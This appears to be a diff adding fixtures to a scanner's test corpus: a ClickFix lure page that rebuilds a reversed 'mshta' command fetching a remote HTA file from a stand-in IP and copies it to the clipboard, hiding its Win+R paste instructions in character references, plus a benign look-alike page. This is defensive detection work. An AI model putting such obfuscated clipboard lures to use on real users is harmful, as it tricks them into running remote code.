@@ -106,6 +106,16 @@ var d = {_split("conhost.exe --headless cmd /c x")};
 function go() {{ navigator.clipboard.writeText(c + " & " + d); }}
 </script></body></html>
 """,
+    # ClickFix whose clipboard command is stored reversed and rebuilt with split/reverse/join, and whose
+    # "Win + R" instruction is written with character references, so neither is in the page as such.
+    "lures/droppers/clickfix_reversed.html": f"""<!DOCTYPE html>
+<html><body><!-- {MARK} -->
+<p>Verification steps: press Win &#43; R, then Ctrl &plus; V, then Enter.</p>
+<script>
+var c = "{"mshta https://203.0.113.78/verify.hta"[::-1]}".split("").reverse().join("");
+function go() {{ navigator.clipboard.writeText(c); }}
+</script></body></html>
+""",
     # HTML smuggling of an installer from a bundle with an ordinary name.
     "lures/droppers/app.bundle.js": f"""/* {MARK} */
 (function () {{
@@ -120,6 +130,16 @@ function go() {{ navigator.clipboard.writeText(c + " & " + d); }}
 }})();
 """,
     # ---- clean look-alikes
+    # A help page: keyboard shortcuts written with character references, and a string reversed for a
+    # palindrome demo; no command, no clipboard.
+    "clean/droppers/shortcuts_help.html": f"""<!DOCTYPE html>
+<html><body><!-- {MARK} -->
+<p>Open the Run dialog with Win &#43; R; paste with Ctrl &plus; V.</p>
+<script>
+var word = "racecar"; var back = "racecar".split("").reverse().join("");
+document.title = (word === back) ? "palindrome" : "not a palindrome";
+</script></body></html>
+""",
     # An installer script: HTTPS download of an MSI into the working folder, then msiexec.
     "clean/droppers/install_tools.ps1": f"""# Install the build tools (maintainer script). {MARK}
 $msi = Join-Path $PSScriptRoot 'tools.msi'
